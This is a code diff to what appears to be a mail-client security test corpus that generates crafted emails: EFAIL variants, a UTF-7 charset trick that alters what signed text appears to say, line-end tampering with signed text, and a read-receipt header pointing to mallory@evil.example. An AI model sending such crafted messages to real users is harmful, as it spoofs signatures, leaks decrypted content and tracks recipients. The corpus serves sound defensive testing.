@@ -3,9 +3,11 @@
 First EFAIL, then covert content, then layers and the headers that they protect.
 """
 
+import base64
+
 from crypto_mails import (HIDDEN_SUBJECT, cms_detached, cms_enveloped, inline, inner_headers, mail, protected,
                           sealed_entity, signed_entity)
-from crypto_mime import (ADDED, ALICE, CANARY, MALLORY, OTHER, SECRET, XAVIER, attached, cbc_gadget, cms, crlf,
+from crypto_mime import (ADDED, ALICE, CANARY, MALLORY, OTHER, SECRET, TEXT, XAVIER, attached, cbc_gadget, cms, crlf,
                          letter, multipart, part, pgp_signed)
 
 # -- EFAIL ---------------------------------------------------------------------------------------
@@ -227,3 +229,24 @@ def receipts_and_links_that_call_home(keys):
     return letter(sealed_entity(keys, html, by=["alice"]),
                   headers=["Disposition-Notification-To: mallory@evil.example"])
 
+
+@mail
+def charset_that_makes_other_words_of_what_was_signed(keys):
+    """Alice has quoted what looks like noise, and signed her answer; mallory sends it on as UTF-7 (RFC 2152)."""
+    hidden = base64.b64encode(OTHER.encode("utf-16-be")).decode().rstrip("=")
+    answer = keys.clearsign(f"> +{hidden}-\n{TEXT}".encode(), "alice")
+    return letter(crlf("Content-Type: text/plain; charset=utf-7\n\n") + crlf(answer))
+
+
+@mail
+def signed_text_with_returns_added(keys):
+    """To gpg the returns are part of a line end; but the header seems to go on over the first paragraph."""
+    entity = part(f"Note: {OTHER}\n{TEXT}")
+    signature = keys.sign(entity, "alice", more=["--textmode"])
+    return letter(pgp_signed(entity.replace(b"\r\n\r\nNote", b"\r\n\r\r\nNote"), signature))
+
+
+@mail
+def efail_in_a_new_envelope(keys):
+    """Whoever has changed an S/MIME ciphertext seals it to us once more, with OpenPGP."""
+    return letter(sealed_entity(keys, cms_enveloped(keys)))
